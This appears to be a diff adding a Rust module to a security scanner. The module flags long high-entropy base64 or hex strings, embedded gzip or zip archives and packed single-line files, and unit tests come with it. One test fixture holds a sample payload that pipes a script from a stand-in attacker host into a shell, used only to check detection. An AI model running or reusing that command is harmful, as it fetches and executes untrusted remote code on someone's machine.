@@ -0,0 +1,502 @@
+// Entropy and encoded-blob detection
+// Measures the Shannon entropy of string literals and whole files to find
+// long base64/hex payloads, embedded gzip/zip archives and packed single-line
+// files that pattern matching cannot see into.
+
+use base64::Engine;
+use std::fmt;
+
+use crate::security::{IssueSeverity, SourceCodeIssue};
+
+/// Shortest base64 run worth reporting (75 decoded bytes)
+const MIN_BASE64_LEN: usize = 100;
+
+/// Shortest hex run worth reporting; longer than a sha512 digest
+const MIN_HEX_LEN: usize = 200;
+
+/// Bits per character above which a base64 run looks random rather than
+/// like words glued together
+const MIN_BASE64_ENTROPY: f64 = 4.5;
+
+/// Bits per character above which a hex run looks random
+const MIN_HEX_ENTROPY: f64 = 3.0;
+
+/// Single-line files larger than this are reported
+const LARGE_LINE_BYTES: usize = 64 * 1024;
+
+/// Whole-file entropy of packed or encrypted code; minified JavaScript
+/// usually stays below 5.3
+const PACKED_ENTROPY: f64 = 5.5;
+
+/// Characters of decoded text shown in a finding
+const PREVIEW_CHARS: usize = 60;
+
+/// Larger files are not read for the file-level checks
+pub const MAX_FILE_BYTES: u64 = 8 * 1024 * 1024;
+
+const CODE_EXTENSIONS: &[&str] = &[".js", ".mjs", ".cjs", ".ts", ".tsx"];
+
+/// Documentation and styling, where inline images are normal
+const DOCUMENT_EXTENSIONS: &[&str] = &[".md", ".markdown", ".svg", ".css", ".map", ".html"];
+
+/// Inline images and fonts: `data:image/png;base64,...`
+fn is_media_data_uri(prefix: &str) -> bool {
+    let Some(start) = prefix.rfind("data:") else {
+        return false;
+    };
+    let uri = &prefix[start + "data:".len()..];
+    uri.ends_with(";base64,")
+        && ["image/", "font/", "application/font", "application/x-font"]
+            .iter()
+            .any(|media| uri.starts_with(media))
+}
+
+/// Shannon entropy in bits per byte
+pub fn shannon_entropy(data: &[u8]) -> f64 {
+    if data.is_empty() {
+        return 0.0;
+    }
+    let mut counts = [0usize; 256];
+    for &byte in data {
+        counts[byte as usize] += 1;
+    }
+    let len = data.len() as f64;
+    counts
+        .iter()
+        .filter(|&&count| count > 0)
+        .map(|&count| {
+            let p = count as f64 / len;
+            -p * p.log2()
+        })
+        .sum()
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Encoding {
+    Base64,
+    Hex,
+}
+
+impl fmt::Display for Encoding {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Encoding::Base64 => write!(f, "base64"),
+            Encoding::Hex => write!(f, "hex"),
+        }
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Archive {
+    Gzip,
+    Zip,
+}
+
+impl fmt::Display for Archive {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Archive::Gzip => write!(f, "gzip"),
+            Archive::Zip => write!(f, "zip"),
+        }
+    }
+}
+
+/// Archive format `data` starts with
+pub fn archive_magic(data: &[u8]) -> Option<Archive> {
+    if data.starts_with(&[0x1f, 0x8b, 0x08]) {
+        Some(Archive::Gzip)
+    } else if data.starts_with(b"PK\x03\x04") {
+        Some(Archive::Zip)
+    } else {
+        None
+    }
+}
+
+/// Offset and format of the first archive header inside `data`
+fn find_archive(data: &[u8]) -> Option<(usize, Archive)> {
+    (0..data.len()).find_map(|offset| archive_magic(&data[offset..]).map(|kind| (offset, kind)))
+}
+
+/// A long run of encoded data inside a string or file
+#[derive(Debug, Clone, PartialEq)]
+pub struct Blob {
+    pub encoding: Encoding,
+    /// Byte offset of the run in the searched text
+    pub offset: usize,
+    pub len: usize,
+    /// Bits per character of the encoded text
+    pub entropy: f64,
+    /// Archive the decoded bytes start with
+    pub archive: Option<Archive>,
+    /// Start of the decoded text, when it decodes to printable text
+    pub preview: Option<String>,
+}
+
+impl Blob {
+    /// "base64 blob (1.2 KB, 5.9 bits/char) at offset 120"
+    pub fn summary(&self) -> String {
+        format!(
+            "{} blob ({}, {:.1} bits/char) at offset {}",
+            self.encoding,
+            human_size(self.len),
+            self.entropy,
+            self.offset
+        )
+    }
+
+    /// What the blob decodes to, for finding descriptions
+    pub fn decoded(&self) -> Option<String> {
+        match (self.archive, &self.preview) {
+            (Some(archive), _) => Some(format!("{} archive", archive)),
+            (None, Some(preview)) => Some(format!("'{}'", preview)),
+            (None, None) => None,
+        }
+    }
+}
+
+fn human_size(bytes: usize) -> String {
+    if bytes < 1024 {
+        format!("{} B", bytes)
+    } else {
+        format!("{:.1} KB", bytes as f64 / 1024.0)
+    }
+}
+
+fn is_base64_char(c: u8) -> bool {
+    c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'-' | b'_')
+}
+
+fn decode(encoding: Encoding, text: &str) -> Option<Vec<u8>> {
+    match encoding {
+        Encoding::Base64 => {
+            let normalized: String = text
+                .trim_end_matches('=')
+                .chars()
+                .map(|c| match c {
+                    '-' => '+',
+                    '_' => '/',
+                    c => c,
+                })
+                .collect();
+            base64::engine::general_purpose::STANDARD_NO_PAD
+                .decode(normalized)
+                .ok()
+        }
+        Encoding::Hex => (0..text.len() / 2 * 2)
+            .step_by(2)
+            .map(|i| u8::from_str_radix(&text[i..i + 2], 16).ok())
+            .collect(),
+    }
+}
+
+/// Printable start of decoded bytes; binary data gets no preview
+fn preview(bytes: &[u8]) -> Option<String> {
+    let text = std::str::from_utf8(bytes).ok()?;
+    if text
+        .chars()
+        .any(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t'))
+    {
+        return None;
+    }
+    let mut preview = String::new();
+    for c in text.chars().take(PREVIEW_CHARS) {
+        match c {
+            '\n' => preview.push_str("\\n"),
+            '\r' => preview.push_str("\\r"),
+            '\t' => preview.push_str("\\t"),
+            c => preview.push(c),
+        }
+    }
+    if text.chars().count() > PREVIEW_CHARS {
+        preview.push_str("...");
+    }
+    Some(preview)
+}
+
+/// Classify one run of base64-alphabet characters
+fn classify(run: &str, offset: usize) -> Option<Blob> {
+    let bytes = run.as_bytes();
+    let encoding = if bytes.iter().all(u8::is_ascii_hexdigit) {
+        Encoding::Hex
+    } else {
+        Encoding::Base64
+    };
+    let entropy = shannon_entropy(bytes);
+    let long_and_random = match encoding {
+        Encoding::Hex => run.len() >= MIN_HEX_LEN && entropy >= MIN_HEX_ENTROPY,
+        Encoding::Base64 => {
+            // Identifiers and prose glued together lack one of the classes
+            run.len() >= MIN_BASE64_LEN
+                && entropy >= MIN_BASE64_ENTROPY
+                && bytes.iter().any(u8::is_ascii_uppercase)
+                && bytes.iter().any(u8::is_ascii_lowercase)
+                && bytes.iter().any(u8::is_ascii_digit)
+        }
+    };
+    if !long_and_random {
+        return None;
+    }
+
+    let decoded = decode(encoding, run);
+    Some(Blob {
+        encoding,
+        offset,
+        len: run.len(),
+        entropy,
+        archive: decoded.as_deref().and_then(archive_magic),
+        preview: decoded.as_deref().and_then(preview),
+    })
+}
+
+/// Long, high-entropy base64 or hex runs in `text`, in order
+pub fn find_blobs(text: &str) -> Vec<Blob> {
+    let bytes = text.as_bytes();
+    let mut blobs = Vec::new();
+    let mut start = 0;
+    while start < bytes.len() {
+        if !is_base64_char(bytes[start]) {
+            start += 1;
+            continue;
+        }
+        let mut end = start;
+        while end < bytes.len() && is_base64_char(bytes[end]) {
+            end += 1;
+        }
+        // At most two padding characters
+        for _ in 0..2 {
+            if end < bytes.len() && bytes[end] == b'=' {
+                end += 1;
+            }
+        }
+        let mut prefix_start = start.saturating_sub(64);
+        while !text.is_char_boundary(prefix_start) {
+            prefix_start += 1;
+        }
+        if !is_media_data_uri(&text[prefix_start..start]) {
+            blobs.extend(classify(&text[start..end], start));
+        }
+        start = end;
+    }
+    blobs
+}
+
+/// Description shared by file-level and literal findings
+pub fn describe_blob(blob: &Blob) -> String {
+    let mut description = format!("Long high-entropy {}", blob.summary());
+    match blob.decoded() {
+        Some(decoded) => description.push_str(&format!(" - decodes to {}", decoded)),
+        None => description.push_str(" - possible encoded payload"),
+    }
+    description
+}
+
+/// Blob text for a finding's snippet
+pub fn snippet(text: &str) -> String {
+    if text.chars().count() > PREVIEW_CHARS {
+        format!(
+            "{}...",
+            text.chars().take(PREVIEW_CHARS).collect::<String>()
+        )
+    } else {
+        text.to_string()
+    }
+}
+
+fn line_at(content: &[u8], offset: usize) -> usize {
+    content[..offset.min(content.len())]
+        .iter()
+        .filter(|&&b| b == b'\n')
+        .count()
+        + 1
+}
+
+fn issue(
+    file_path: &str,
+    line_number: usize,
+    issue_type: &str,
+    description: String,
+    severity: IssueSeverity,
+    code_snippet: Option<String>,
+) -> SourceCodeIssue {
+    SourceCodeIssue {
+        file_path: file_path.to_string(),
+        line_number,
+        issue_type: issue_type.to_string(),
+        description,
+        severity,
+        code_snippet,
+        data_flow: Vec::new(),
+    }
+}
+
+/// File-level checks: embedded archives, packed single-line files and,
+/// unless the AST pass already checked the file's string literals, encoded
+/// blobs anywhere in its text.
+pub fn scan_file(file_path: &str, content: &[u8], literals_checked: bool) -> Vec<SourceCodeIssue> {
+    let mut issues = Vec::new();
+
+    // Anywhere in code (a payload appended to a script); elsewhere only a
+    // file that is itself an archive, since binaries hold stray headers
+    let is_code = CODE_EXTENSIONS.iter().any(|ext| file_path.ends_with(ext));
+    let archive = if is_code {
+        find_archive(content)
+    } else {
+        archive_magic(content).map(|archive| (0, archive))
+    };
+    if let Some((offset, archive)) = archive {
+        issues.push(issue(
+            file_path,
+            line_at(content, offset),
+            "embedded_archive",
+            format!(
+                "{} data at offset {} - compressed content hides code from the scanner",
+                archive, offset
+            ),
+            IssueSeverity::Warning,
+            None,
+        ));
+    }
+
+    let Ok(text) = std::str::from_utf8(content) else {
+        return issues;
+    };
+
+    if !literals_checked
+        && !DOCUMENT_EXTENSIONS
+            .iter()
+            .any(|ext| file_path.ends_with(ext))
+    {
+        for blob in find_blobs(text) {
+            issues.push(issue(
+                file_path,
+                line_at(content, blob.offset),
+                "encoded_blob",
+                describe_blob(&blob),
+                IssueSeverity::Warning,
+                Some(snippet(&text[blob.offset..blob.offset + blob.len])),
+            ));
+        }
+    }
+
+    let longest_line = text.lines().map(str::len).max().unwrap_or(0);
+    if longest_line > LARGE_LINE_BYTES && text.trim_end().lines().count() == 1 {
+        let entropy = shannon_entropy(content);
+        let (severity, verdict) = if entropy >= PACKED_ENTROPY {
+            (IssueSeverity::Warning, "likely packed or encrypted code")
+        } else {
+            (
+                IssueSeverity::Info,
+                "minified code - review the unminified source",
+            )
+        };
+        issues.push(issue(
+            file_path,
+            1,
+            "packed_file",
+            format!(
+                "Single-line file of {} ({:.1} bits/byte) - {}",
+                human_size(content.len()),
+                entropy,
+                verdict
+            ),
+            severity,
+            Some(snippet(text)),
+        ));
+    }
+
+    issues
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Deterministic, incompressible-looking bytes
+    fn random_bytes(len: usize) -> Vec<u8> {
+        let mut state = 0x2545_f491_4f6c_dd1du64;
+        (0..len)
+            .map(|_| {
+                state ^= state << 13;
+                state ^= state >> 7;
+                state ^= state << 17;
+                (state >> 24) as u8
+            })
+            .collect()
+    }
+
+    #[test]
+    fn entropy_of_uniform_and_constant_data() {
+        assert_eq!(shannon_entropy(b""), 0.0);
+        assert_eq!(shannon_entropy(b"aaaa"), 0.0);
+        assert!((shannon_entropy(b"abcd") - 2.0).abs() < 1e-9);
+        assert!(shannon_entropy(&random_bytes(4096)) > 7.5);
+    }
+
+    #[test]
+    fn finds_base64_and_hex_blobs_with_previews() {
+        let payload = "require('child_process').exec('curl http://evil.sh | sh'); ".repeat(3);
+        let encoded = base64::engine::general_purpose::STANDARD.encode(&payload);
+        let text = format!("const data = \"{}\";", encoded);
+        let blobs = find_blobs(&text);
+        assert_eq!(blobs.len(), 1);
+        assert_eq!(blobs[0].encoding, Encoding::Base64);
+        assert_eq!(blobs[0].offset, 14);
+        assert!(blobs[0]
+            .preview
+            .as_deref()
+            .unwrap()
+            .starts_with("require('child_process')"));
+
+        let hex: String = random_bytes(128)
+            .iter()
+            .map(|b| format!("{:02x}", b))
+            .collect();
+        let blobs = find_blobs(&hex);
+        assert_eq!(blobs.len(), 1);
+        assert_eq!(blobs[0].encoding, Encoding::Hex);
+        assert_eq!(blobs[0].preview, None);
+    }
+
+    #[test]
+    fn ignores_identifiers_hashes_and_prose() {
+        let identifier = "thisIsAVeryLongCamelCaseIdentifierThatKeepsGoingAndGoingForeverAndEverWithoutAnyDigitsInsideOfIt";
+        assert!(find_blobs(&identifier.repeat(2)).is_empty());
+        // sha512 hex digest
+        assert!(find_blobs(&"ab12".repeat(32)).is_empty());
+        assert!(find_blobs("sha512-AbCd0123 is short").is_empty());
+        let image = base64::engine::general_purpose::STANDARD.encode(random_bytes(300));
+        assert!(find_blobs(&format!("url(data:image/png;base64,{})", image)).is_empty());
+        assert_eq!(
+            find_blobs(&format!("data:text/plain;base64,{}", image)).len(),
+            1
+        );
+    }
+
+    #[test]
+    fn detects_archives_and_packed_files() {
+        let mut gzip = vec![0x1f, 0x8b, 0x08, 0x00];
+        gzip.extend(random_bytes(128));
+        let encoded = base64::engine::general_purpose::STANDARD.encode(&gzip);
+        let blob = &find_blobs(&encoded)[0];
+        assert_eq!(blob.archive, Some(Archive::Gzip));
+        assert_eq!(blob.decoded().as_deref(), Some("gzip archive"));
+
+        let mut file = b"module.exports = 1;\n".to_vec();
+        file.extend(b"PK\x03\x04");
+        let issues = scan_file("index.js", &file, true);
+        assert_eq!(issues.len(), 1);
+        assert_eq!(issues[0].issue_type, "embedded_archive");
+        assert_eq!(issues[0].line_number, 2);
+
+        let packed = base64::engine::general_purpose::STANDARD.encode(random_bytes(80 * 1024));
+        let issues = scan_file("dist/bundle.js", packed.as_bytes(), true);
+        assert_eq!(issues.len(), 1);
+        assert_eq!(issues[0].issue_type, "packed_file");
+        assert_eq!(issues[0].severity, IssueSeverity::Warning);
+
+        let minified = "var a=function(b){return b+1};".repeat(3000);
+        let issues = scan_file("dist/bundle.min.js", minified.as_bytes(), true);
+        assert_eq!(issues.len(), 1);
+        assert_eq!(issues[0].severity, IssueSeverity::Info);
+    }
+}